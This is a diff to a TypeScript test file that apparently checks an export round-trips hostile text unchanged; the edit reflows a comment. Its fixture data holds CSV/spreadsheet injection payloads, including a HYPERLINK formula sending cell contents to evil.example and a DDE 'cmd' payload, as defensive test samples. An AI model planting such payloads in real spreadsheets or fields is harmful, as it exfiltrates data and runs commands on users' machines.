@@ -7,7 +7,10 @@ type Hostile = { description?: string; trip_name?: string; cost_center?: string;
 const ESCAPE = String.fromCharCode(27)
 const RIGHT_TO_LEFT = '\u202e'
 
-/** Text that attacks spreadsheets, browsers, terminals and careless writers; it must come out as it went in. */
+/**
+ * Text that attacks spreadsheets, browsers, terminals and careless writers; it must come out as it
+ * went in.
+ */
 const HOSTILE_TEXT: readonly Hostile[] = [
   { trip_name: '=HYPERLINK("https://evil.example/?x="&A1,"Open receipt")', cost_center: '=1+1' },
   { description: "+cmd|' /C calc'!A0", vendor: '@SUM(A1:A9)' },
